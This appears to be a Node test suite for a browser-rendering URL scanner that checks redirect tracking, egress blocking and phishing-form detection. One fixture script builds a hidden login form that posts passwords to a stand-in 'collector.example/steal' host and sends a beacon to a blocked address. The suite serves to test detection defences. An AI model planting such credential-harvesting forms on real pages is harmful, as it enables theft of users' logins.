import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import http from 'node:http';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import pino from 'pino';
import { PNG } from 'pngjs';
import { loadConfig } from '../config/load.ts';
import { limitsSchema, type ConfigInput } from '../config/schema.ts';
import { inputFromBuffer } from '../engine/input.ts';
import { BrowserManager, closeSharedBrowsers, DEFAULT_CHROMIUM } from '../net/browser.ts';
import { EgressGuard } from '../net/egress-guard.ts';
import { htmlScanner } from './html.ts';
import { renderScanner, type RecordedRequest, type RenderHop, type RenderState } from './render.ts';
import { initScanner, runScanner, sampleInfo } from './testing.ts';
import { ScannerDisabled } from './types.ts';
import { startVerdict } from '../../test/harness.ts';

// Every page is served by this loopback server; the only other addresses named are refused
// ones (10.255.255.1, 192.0.2.1) or hosts under .example, which the guard stops before any
// connection is made.
let server: http.Server;
let base: string;
const sockets = new Set<net.Socket>();
const seen: { path: string; ua: string }[] = [];

before(async () => {
  assert.ok(fs.existsSync(DEFAULT_CHROMIUM), `Chromium not found at ${DEFAULT_CHROMIUM}: the render tests need a real browser (Debian: apt-get install chromium)`);
  server = http.createServer(route);
  server.on('connection', (s) => sockets.add(s));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

after(async () => {
  await closeSharedBrowsers();
  for (const s of sockets) s.destroy();
  server.close();
});

const PIXEL = PNG.sync.write(Object.assign(new PNG({ width: 2, height: 2 }), { data: Buffer.alloc(16, 0xff) }));

const html = (body: string, head = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;

function route(req: http.IncomingMessage, res: http.ServerResponse): void {
  const u = new URL(req.url ?? '/', 'http://x');
  seen.push({ path: u.pathname, ua: String(req.headers['user-agent']) });
  const page = (body: string, head = '') => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html(body, head));
  };
  switch (u.pathname) {
    case '/start':
      res.writeHead(302, { location: '/meta' });
      return void res.end();
    case '/meta':
      return page('moving', '<meta http-equiv="refresh" content="0;url=/js">');
    case '/js':
      return page('<script>location.href = "/final"</script>');
    case '/final':
      return page(
        '<h1>Welcome</h1><img src="/pixel.png"><img src="http://10.255.255.1/track.png"><script src="/app.js"></script>',
        '<title>Final page</title>',
      );
    case '/app.js':
      res.writeHead(200, { 'content-type': 'text/javascript' });
      // Builds the login form only at run time: a fetcher sees no form, the browser does.
      return void res.end(`
        const f = document.createElement('form');
        f.action = 'http://collector.example/steal';
        f.method = 'post';
        f.innerHTML = '<input name="user"><input type="password" name="pass" id="built-by-script">';
        document.body.appendChild(f);
        try { new WebSocket('ws://127.0.0.1:${(server.address() as AddressInfo).port}/live'); } catch {}
        fetch('http://192.0.2.1/beacon').catch(() => {});
      `);
    case '/pixel.png':
      res.writeHead(200, { 'content-type': 'image/png' });
      return void res.end(PIXEL);
    case '/escape':
      // An HTTP redirect Chromium follows without asking the route: the proxy must stop it.
      res.writeHead(302, { location: 'http://10.255.255.1/secret' });
      return void res.end();
    case '/to-other-site':
      return page(`<script>setTimeout(() => { location.replace("http://localhost:${(server.address() as AddressInfo).port}/plain") }, 50)</script>`);
    case '/hang':
      return;
    case '/plain':
      return page('<p>nothing to see</p>', '<title>Plain</title>');
    default:
      res.writeHead(404);
      res.end();
  }
}

const cfg = (o: ConfigInput = {}) => loadConfig({ egressAllow: ['127.0.0.0/8', '::1/128'], dataDir: os.tmpdir(), ...o }, {});
const render = (url: string) => runScanner(renderScanner, Buffer.alloc(0), { url, init: { config: cfg() } });
type RenderAttrs = { finalUrl: string; title?: string; status?: number; redirects: RenderHop[]; requests: RecordedRequest[]; error?: string; skipped?: string; screenshot?: { width: number; height: number } };
const attrs = (r: { attributes: Record<string, unknown> }) => r.attributes.render as RenderAttrs;

test('init: off, auto without Chromium and urlFetch off disable it; on without Chromium fails start-up', async () => {
  await assert.rejects(initScanner(renderScanner, { config: cfg({ render: 'off' }) }), ScannerDisabled);
  await assert.rejects(initScanner(renderScanner, { config: cfg({ urlFetch: false }) }), ScannerDisabled);
  await assert.rejects(initScanner(renderScanner, { config: cfg({ renderChromium: '/nonexistent/chromium' }) }), ScannerDisabled);
  await assert.rejects(
    initScanner(renderScanner, { config: cfg({ render: 'on', renderChromium: '/nonexistent/chromium' }) }),
    (e: unknown) => !(e instanceof ScannerDisabled) && /render: on, but no Chromium at \/nonexistent\/chromium/.test((e as Error).message),
  );
  const state = (await initScanner(renderScanner, { config: cfg() })) as RenderState;
  assert.equal(renderScanner.accepts(sampleInfo(Buffer.alloc(0), 'u', 0, base), state), true);
  assert.equal(renderScanner.accepts(sampleInfo(Buffer.from('<html>')), state), false);
  assert.equal(renderScanner.accepts({ ...sampleInfo(Buffer.alloc(0), 'u', 1, base), relation: 'link' }, state), false, 'links inside objects only with fetchEmbeddedLinks');
});

test('follows a 302, a meta refresh and a script redirect to the final page', async () => {
  const r = await render(`${base}/start`);
  const a = attrs(r);
  assert.equal(a.finalUrl, `${base}/final`);
  assert.equal(a.title, 'Final page');
  assert.equal(a.status, 200);
  assert.deepEqual(a.redirects, [
    { url: `${base}/start`, status: 302, kind: 'http' },
    { url: `${base}/meta`, status: 200, kind: 'client' },
    { url: `${base}/js`, status: 200, kind: 'client' },
  ]);
  assert.ok(!r.heuristics.includes('RENDER_CLIENT_REDIRECT'), 'redirects within one site are no finding');
});

test('records the page requests; refused destinations are blocked, recorded and never reached', async () => {
  const r = await render(`${base}/final`);
  const reqs = attrs(r).requests;
  const find = (url: string) => reqs.find((q) => q.url === url);
  assert.deepEqual(find(`${base}/pixel.png`), { url: `${base}/pixel.png`, method: 'GET', type: 'image', status: 200 });
  assert.deepEqual(find(`${base}/app.js`), { url: `${base}/app.js`, method: 'GET', type: 'script', status: 200 });
  assert.equal(find('http://10.255.255.1/track.png')?.blocked, true);
  assert.equal(find('http://192.0.2.1/beacon')?.blocked, true);
  assert.ok(reqs.some((q) => q.type === 'websocket' && q.blocked && q.url.endsWith('/live')), 'the WebSocket is refused');
  assert.ok(!seen.some((s) => s.path === '/live'), 'the WebSocket never reached the server');
  assert.ok(r.heuristics.includes('RENDER_EGRESS_REFUSED'));
  const refused = r.evidence.find((e) => e.heuristic === 'RENDER_EGRESS_REFUSED')!;
  assert.deepEqual((refused.data?.targets as string[]).sort(), ['http://10.255.255.1/track.png', 'http://192.0.2.1/beacon']);
  assert.match(String(refused.data?.reasons), /private \(RFC 1918\)/);
});

test('the DOM built by scripts is a fetched_content child the HTML scanner judges', async () => {
  const r = await render(`${base}/final`);
  const dom = r.children.find((c) => c.relation === 'fetched_content');
  assert.ok(dom, 'rendered DOM emitted');
  assert.equal(dom.name, `${base}/final`, 'named by the final URL so the HTML scanner knows the site');
  assert.match(dom.bytes!.toString(), /id="built-by-script"/);
  const judged = await runScanner(htmlScanner, dom.bytes!, { name: dom.name, relation: 'fetched_content', depth: 1 });
  assert.ok(judged.heuristics.includes('HTML_FORM_OFFSITE'), `HTML findings: ${judged.heuristics.join(', ')}`);
});

test('the screenshot is a PNG child clipped to 1280 wide', async () => {
  const r = await render(`${base}/final`);
  const shot = r.children.find((c) => c.relation === 'screenshot');
  assert.ok(shot, 'screenshot emitted');
  assert.equal(shot.name, 'screenshot.png');
  const png = PNG.sync.read(shot.bytes!);
  assert.equal(png.width, 1280);
  assert.ok(png.height > 0 && png.height <= 2000);
  assert.deepEqual(attrs(r).screenshot, { width: png.width, height: png.height, bytes: shot.bytes!.length });
});

test('an image URL: a screenshot, but not the viewer page Chromium builds around it', async () => {
  const r = await render(`${base}/pixel.png`);
  assert.equal(attrs(r).finalUrl, `${base}/pixel.png`);
  assert.deepEqual(r.children.map((c) => c.relation), ['screenshot']);
});

test('a redirect to a refused address is stopped by the proxy: nothing to scan', async () => {
  const r = await render(`${base}/escape`);
  const a = attrs(r);
  assert.equal(r.children.length, 0);
  assert.ok(a.error, 'the failed navigation is reported as an attribute');
  assert.ok(a.requests.some((q) => q.url === 'http://10.255.255.1/secret' && q.blocked));
  assert.ok(r.heuristics.includes('RENDER_EGRESS_REFUSED'));
  assert.deepEqual(a.redirects, [{ url: `${base}/escape`, status: 302, kind: 'http' }]);
});

test('a scripted redirect to another site is a finding', async () => {
  const r = await render(`${base}/to-other-site`);
  const port = (server.address() as AddressInfo).port;
  assert.equal(attrs(r).finalUrl, `http://localhost:${port}/plain`);
  assert.deepEqual(r.heuristics, ['RENDER_CLIENT_REDIRECT']);
  assert.deepEqual(r.evidence[0].data?.hops, [{ from: '127.0.0.1', to: 'localhost' }]);
});

test('a refused or unresolvable target is skipped without starting a browser', async () => {
  const before = seen.length;
  const refused = await runScanner(renderScanner, Buffer.alloc(0), { url: `${base}/final`, init: { config: loadConfig({ dataDir: os.tmpdir() }, {}) } });
  assert.match(String(attrs(refused).skipped), /refused by the egress policy: 127\.0\.0\.1 is loopback/);
  assert.equal(refused.children.length, 0);
  assert.equal(seen.length, before, 'nothing reached the server');
  const unresolvable = await render('http://does-not-exist.invalid/');
  assert.match(String(attrs(unresolvable).skipped), /does not resolve/);
  assert.deepEqual(unresolvable.heuristics, []);
});

test('a page that never answers is given up at renderTimeoutMs', async () => {
  const t0 = Date.now();
  const r = await runScanner(renderScanner, Buffer.alloc(0), { url: `${base}/hang`, init: { config: cfg() }, limits: { renderTimeoutMs: 1500 } });
  assert.ok(Date.now() - t0 < 6000, `took ${Date.now() - t0} ms`);
  assert.ok(attrs(r).error, 'the failure is an attribute');
  assert.equal(r.children.length, 0);
  assert.deepEqual(r.heuristics, []);
});

test('sessions beyond the limit wait for a free one, up to their deadline', async () => {
  const m = new BrowserManager({ maxSessions: 1 });
  const guard = new EgressGuard({ allow: ['127.0.0.0/8'] });
  const opts = { guard, userAgent: 'x', maxBytes: 1 << 20, maxRequests: 10 };
  try {
    const first = await m.session(opts);
    await assert.rejects(m.session({ ...opts, deadline: Date.now() + 300 }), /no free browser session/);
    const waiting = m.session({ ...opts, deadline: Date.now() + 10_000 });
    setTimeout(() => void first.close(), 200);
    const second = await waiting;
    const page = await second.context.newPage();
    await page.goto(`${base}/plain`);
    assert.equal(await page.title(), 'Plain');
    await second.close();
  } finally {
    await m.close();
  }
});

test("the request's user agent is the browser's", async () => {
  const tmpDir = fs.mkdtempSync(path.join(os.tmpdir(), 'render-ua-'));
  try {
    const state = (await initScanner(renderScanner, { config: cfg() })) as RenderState;
    const limits = limitsSchema.parse({});
    await renderScanner.scan(
      inputFromBuffer(sampleInfo(Buffer.alloc(0), 'u', 0, `${base}/plain?ua`), Buffer.alloc(0), tmpDir),
      { options: { passwords: [], userAgent: 'Custom-UA/2' }, limits, signal: new AbortController().signal, deadline: Date.now() + 30_000, log: pino({ level: 'silent' }), tmpDir, emitChild: async () => true },
      state,
    );
    assert.equal(seen.filter((s) => s.path === '/plain').at(-1)?.ua, 'Custom-UA/2');
  } finally {
    fs.rmSync(tmpDir, { recursive: true, force: true });
  }
});

test('through the X-Ray API: the screenshot is a child scan listed in images, the rendered page is scanned', async () => {
  const v = await startVerdict({ clamd: 'off' });
  try {
    const res = await v.api('POST', '/api/v1/urls/', { json: { path: `${base}/final` } });
    assert.equal(res.status, 200);
    const scan = await v.waitForScan(((await res.json()) as { scan_id: number }).scan_id, undefined, 60_000);
    const shot = scan.children.find((c: { relation: string }) => c.relation === 'screenshot');
    assert.ok(shot, JSON.stringify(scan.children));
    assert.equal(shot.sample_file_type, 'png');
    assert.equal(scan.images.length, 1);
    assert.equal(scan.images[0].scan_id, shot.id);
    assert.equal(scan.images[0].sha256, shot.sample_sha256);
    assert.equal(scan.images[0].page_url, `${base}/final`);
    const pages = scan.children.filter((c: { relation: string }) => c.relation === 'fetched_content');
    assert.equal(pages.length, 2, 'the fetched and the rendered page');
    const heuristics = scan.root_evidence.map((e: { heuristic: string }) => e.heuristic);
    assert.ok(heuristics.includes('RENDER_EGRESS_REFUSED'));
    assert.ok(heuristics.includes('HTML_FORM_OFFSITE'), 'only the rendered page has the form its script builds');
  } finally {
    await v.close();
  }
});
